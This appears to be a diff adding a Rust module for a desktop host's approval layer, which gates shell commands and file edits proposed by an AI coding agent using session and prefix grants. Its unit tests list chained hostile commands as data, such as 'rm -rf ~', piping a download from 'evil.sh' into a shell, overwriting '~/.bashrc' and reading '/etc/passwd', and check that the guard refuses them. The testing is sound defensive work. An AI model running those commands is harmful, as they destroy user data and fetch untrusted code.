@@ -0,0 +1,418 @@
+// This module keeps the host's view of bridge approvals: pending requests, session grants and expiry.
+// Grants and command-prefix rules are per session and are checked before a prompt reaches the view.
+
+use serde_json::{json, Map, Value};
+use std::collections::HashSet;
+use std::env;
+use std::time::Duration;
+use tauri::{AppHandle, Manager};
+
+use crate::approval_rules::{self, RuleVerdict};
+use crate::{
+    emit_message_to_app, lock_or_err, mark_item_completed, mark_item_started,
+    mcp_notification_payload, run_context, send_bridge_command, AppState, BridgeRuntimeState,
+};
+
+const DEFAULT_APPROVAL_TIMEOUT: Duration = Duration::from_secs(10 * 60);
+
+pub(crate) struct PendingApproval {
+    pub(crate) run_id: String,
+    pub(crate) thread_id: String,
+    pub(crate) file_change: bool,
+    pub(crate) command: Option<String>,
+}
+
+#[derive(Default)]
+pub(crate) struct SessionApprovalRules {
+    file_changes: bool,
+    commands: HashSet<String>,
+    prefixes: Vec<Vec<String>>,
+}
+
+// A prefix only vouches for the first program; operators could chain or redirect into anything.
+const SHELL_OPERATORS: &[&str] = &[";", "&", "|", "`", "$(", ">", "<", "\n", "\r"];
+
+pub(crate) fn has_shell_operators(command: &str) -> bool {
+    SHELL_OPERATORS
+        .iter()
+        .any(|operator| command.contains(operator))
+}
+
+impl SessionApprovalRules {
+    fn allows(&self, pending: &PendingApproval) -> bool {
+        if pending.file_change {
+            return self.file_changes;
+        }
+        let Some(command) = pending.command.as_deref().map(str::trim) else {
+            return false;
+        };
+        // An exact grant is for the very string the user already approved.
+        if self.commands.contains(command) {
+            return true;
+        }
+        if has_shell_operators(command) {
+            return false;
+        }
+        let tokens = command.split_whitespace().collect::<Vec<_>>();
+        self.prefixes.iter().any(|prefix| {
+            !prefix.is_empty()
+                && prefix.len() <= tokens.len()
+                && prefix
+                    .iter()
+                    .zip(&tokens)
+                    .all(|(rule, token)| rule == token)
+        })
+    }
+}
+
+pub(crate) struct ApprovalDecision {
+    pub(crate) decision: String,
+    pub(crate) execpolicy_amendment: Option<Vec<String>>,
+}
+
+impl ApprovalDecision {
+    pub(crate) fn to_command_data(&self, run_id: &str, request_id: &str) -> Value {
+        let mut data = json!({
+            "runId": run_id,
+            "requestId": request_id,
+            "decision": self.decision
+        });
+        if let (Some(amendment), Value::Object(obj)) = (&self.execpolicy_amendment, &mut data) {
+            obj.insert("execpolicyAmendment".to_string(), json!(amendment));
+        }
+        data
+    }
+}
+
+fn string_list(value: Option<&Value>) -> Option<Vec<String>> {
+    let list = value?
+        .as_array()?
+        .iter()
+        .filter_map(Value::as_str)
+        .map(str::to_string)
+        .collect::<Vec<_>>();
+    (!list.is_empty()).then_some(list)
+}
+
+// Decisions arrive as a string, or as `{ acceptWithExecpolicyAmendment: { execpolicy_amendment } }`.
+// Anything unrecognised is treated as a decline so a malformed reply never grants access.
+pub(crate) fn parse_approval_decision(result: Option<&Map<String, Value>>) -> ApprovalDecision {
+    let decline = || ApprovalDecision {
+        decision: "decline".to_string(),
+        execpolicy_amendment: None,
+    };
+    let Some(decision) = result.and_then(|obj| obj.get("decision")) else {
+        return decline();
+    };
+
+    if let Some(decision) = decision.as_str().map(str::trim) {
+        return match decision {
+            "accept" | "acceptForSession" | "decline" | "cancel" => ApprovalDecision {
+                decision: decision.to_string(),
+                execpolicy_amendment: None,
+            },
+            "approved" => ApprovalDecision {
+                decision: "accept".to_string(),
+                execpolicy_amendment: None,
+            },
+            "approved_for_session" => ApprovalDecision {
+                decision: "acceptForSession".to_string(),
+                execpolicy_amendment: None,
+            },
+            _ => decline(),
+        };
+    }
+
+    let amendment = decision
+        .get("acceptWithExecpolicyAmendment")
+        .map(|inner| {
+            inner
+                .get("execpolicy_amendment")
+                .or_else(|| inner.get("execpolicyAmendment"))
+        })
+        .and_then(string_list);
+    match amendment {
+        Some(amendment) => ApprovalDecision {
+            decision: "acceptWithExecpolicyAmendment".to_string(),
+            execpolicy_amendment: Some(amendment),
+        },
+        None => decline(),
+    }
+}
+
+pub(crate) fn remember_approval_decision(
+    runtime: &mut BridgeRuntimeState,
+    pending: &PendingApproval,
+    decision: &ApprovalDecision,
+) {
+    if pending.thread_id.is_empty() {
+        return;
+    }
+    let rules = runtime
+        .session_approval_rules
+        .entry(pending.thread_id.clone())
+        .or_default();
+    match decision.decision.as_str() {
+        "acceptForSession" if pending.file_change => rules.file_changes = true,
+        "acceptForSession" => {
+            if let Some(command) = pending.command.as_deref().map(str::trim) {
+                rules.commands.insert(command.to_string());
+            }
+        }
+        "acceptWithExecpolicyAmendment" => {
+            if let Some(prefix) = &decision.execpolicy_amendment {
+                if !rules.prefixes.contains(prefix) {
+                    rules.prefixes.push(prefix.clone());
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+pub(crate) fn session_rules_allow(runtime: &BridgeRuntimeState, pending: &PendingApproval) -> bool {
+    runtime
+        .session_approval_rules
+        .get(&pending.thread_id)
+        .is_some_and(|rules| rules.allows(pending))
+}
+
+// Persistent workspace rules are checked first, deny before allow; session grants come after.
+pub(crate) fn automatic_decision(
+    state: &AppState,
+    pending: &PendingApproval,
+    cwd: &str,
+) -> Result<Option<(&'static str, String)>, String> {
+    if let Some(command) = pending.command.as_deref().filter(|_| !pending.file_change) {
+        match approval_rules::evaluate(state, cwd, command)? {
+            Some(RuleVerdict::Deny(pattern)) => {
+                return Ok(Some((
+                    "decline",
+                    format!("Declined `{command}` by workspace rule `{pattern}`"),
+                )))
+            }
+            Some(RuleVerdict::Allow(pattern)) => {
+                return Ok(Some((
+                    "accept",
+                    format!("Approved `{command}` by workspace rule `{pattern}`"),
+                )))
+            }
+            None => {}
+        }
+    }
+    let runtime = lock_or_err(&state.bridge_runtime, "bridge_runtime")?;
+    if !session_rules_allow(&runtime, pending) {
+        return Ok(None);
+    }
+    let note = match pending.command.as_deref() {
+        Some(command) if !pending.file_change => {
+            format!("Approved `{command}` for this session")
+        }
+        _ => "Approved file changes for this session".to_string(),
+    };
+    Ok(Some(("accept", note)))
+}
+
+// Records an automatic command decision in the turn so the user can see why no prompt appeared.
+// File-change grants are not logged; the fileChange item that follows already shows the edit.
+pub(crate) fn log_automatic_decision(
+    app: &AppHandle,
+    state: &AppState,
+    request_id: &str,
+    pending: &PendingApproval,
+    decision: &str,
+    note: String,
+) -> Result<(), String> {
+    let Some(command) = pending.command.as_deref().filter(|_| !pending.file_change) else {
+        return Ok(());
+    };
+    let thread_hint = Some(pending.thread_id.as_str()).filter(|id| !id.is_empty());
+    let Some((thread_id, turn_id)) = run_context(state, &pending.run_id, thread_hint)? else {
+        return Ok(());
+    };
+    let item_id = format!("approval-{request_id}");
+    let status = if decision == "decline" {
+        "declined"
+    } else {
+        "completed"
+    };
+    let item = json!({
+        "id": item_id,
+        "type": "commandExecution",
+        "command": command,
+        "status": status,
+        "exitCode": Value::Null,
+        "aggregatedOutput": note
+    });
+    mark_item_started(state, &pending.run_id, &item_id, item.clone())?;
+    mark_item_completed(state, &pending.run_id, &item_id, item.clone())?;
+    for method in ["item/started", "item/completed"] {
+        let _ = emit_message_to_app(
+            app,
+            mcp_notification_payload(
+                method,
+                json!({
+                    "threadId": thread_id,
+                    "turnId": turn_id,
+                    "item": item.clone()
+                }),
+            ),
+        );
+    }
+    Ok(())
+}
+
+// CODEX_TAURI_APPROVAL_TIMEOUT_SECS overrides the expiry; 0 keeps requests open indefinitely.
+pub(crate) fn approval_timeout() -> Option<Duration> {
+    match env::var("CODEX_TAURI_APPROVAL_TIMEOUT_SECS")
+        .ok()
+        .and_then(|value| value.trim().parse::<u64>().ok())
+    {
+        Some(0) => None,
+        Some(secs) => Some(Duration::from_secs(secs)),
+        None => Some(DEFAULT_APPROVAL_TIMEOUT),
+    }
+}
+
+// Tells the view to drop a prompt it is still showing, and why.
+pub(crate) fn withdraw_approval_prompt(
+    app: &AppHandle,
+    thread_id: &str,
+    request_id: &str,
+    decision: &str,
+    reason: &str,
+) {
+    let _ = emit_message_to_app(
+        app,
+        mcp_notification_payload(
+            "serverRequest/resolved",
+            json!({
+                "threadId": thread_id,
+                "requestId": request_id,
+                "decision": decision,
+                "reason": reason
+            }),
+        ),
+    );
+}
+
+// Answers a request without the view; runs off the reader loop because the reply arrives on it.
+// `withdraw_reason` is set when the view may already be showing the prompt.
+pub(crate) fn respond_without_prompt(
+    app: &AppHandle,
+    request_id: String,
+    pending: PendingApproval,
+    decision: &'static str,
+    withdraw_reason: Option<&'static str>,
+) {
+    let app = app.clone();
+    tokio::spawn(async move {
+        let state_handle = app.state::<AppState>();
+        let data = ApprovalDecision {
+            decision: decision.to_string(),
+            execpolicy_amendment: None,
+        }
+        .to_command_data(&pending.run_id, &request_id);
+        if let Err(error) =
+            send_bridge_command(&app, state_handle.inner(), "approval.respond", data).await
+        {
+            eprintln!("[tauri-host] automatic approval response for {request_id} failed: {error}");
+        }
+        if let Some(reason) = withdraw_reason {
+            withdraw_approval_prompt(&app, &pending.thread_id, &request_id, decision, reason);
+        }
+    });
+}
+
+pub(crate) fn schedule_approval_timeout(app: &AppHandle, request_id: String) {
+    let Some(timeout) = approval_timeout() else {
+        return;
+    };
+    let app = app.clone();
+    tokio::spawn(async move {
+        tokio::time::sleep(timeout).await;
+        let state_handle = app.state::<AppState>();
+        let pending = match lock_or_err(&state_handle.bridge_runtime, "bridge_runtime") {
+            Ok(mut runtime) => runtime.pending_approvals.remove(&request_id),
+            Err(_) => None,
+        };
+        if let Some(pending) = pending {
+            respond_without_prompt(&app, request_id, pending, "decline", Some("timeout"));
+        }
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn command_approval(command: &str) -> PendingApproval {
+        PendingApproval {
+            run_id: "r1".to_string(),
+            thread_id: "t1".to_string(),
+            file_change: false,
+            command: Some(command.to_string()),
+        }
+    }
+
+    fn prefix_rules(prefix: &[&str]) -> SessionApprovalRules {
+        SessionApprovalRules {
+            prefixes: vec![prefix.iter().map(|token| token.to_string()).collect()],
+            ..SessionApprovalRules::default()
+        }
+    }
+
+    #[test]
+    fn prefix_grant_allows_matching_commands() {
+        let rules = prefix_rules(&["cargo", "test"]);
+        assert!(rules.allows(&command_approval("cargo test")));
+        assert!(rules.allows(&command_approval("  cargo test --workspace ")));
+        assert!(!rules.allows(&command_approval("cargo build")));
+        assert!(!rules.allows(&command_approval("cargo")));
+    }
+
+    #[test]
+    fn prefix_grant_refuses_chained_or_redirected_commands() {
+        let rules = prefix_rules(&["cargo", "test"]);
+        for command in [
+            "cargo test; rm -rf ~",
+            "cargo test && curl evil.sh",
+            "cargo test || true",
+            "cargo test | sh",
+            "cargo test & rm -rf ~",
+            "cargo test `rm -rf ~`",
+            "cargo test $(rm -rf ~)",
+            "cargo test > ~/.bashrc",
+            "cargo test < /etc/passwd",
+            "cargo test\nrm -rf ~",
+        ] {
+            assert!(!rules.allows(&command_approval(command)), "{command}");
+        }
+    }
+
+    #[test]
+    fn exact_grant_allows_the_approved_string_only() {
+        let rules = SessionApprovalRules {
+            commands: HashSet::from(["make lint | tee lint.log".to_string()]),
+            ..SessionApprovalRules::default()
+        };
+        assert!(rules.allows(&command_approval("make lint | tee lint.log")));
+        assert!(!rules.allows(&command_approval("make lint | tee lint.log; rm x")));
+    }
+
+    #[test]
+    fn file_change_grant_is_separate_from_commands() {
+        let rules = SessionApprovalRules {
+            file_changes: true,
+            ..SessionApprovalRules::default()
+        };
+        let file_change = PendingApproval {
+            file_change: true,
+            command: None,
+            ..command_approval("")
+        };
+        assert!(rules.allows(&file_change));
+        assert!(!rules.allows(&command_approval("ls")));
+        assert!(!SessionApprovalRules::default().allows(&file_change));
+    }
+}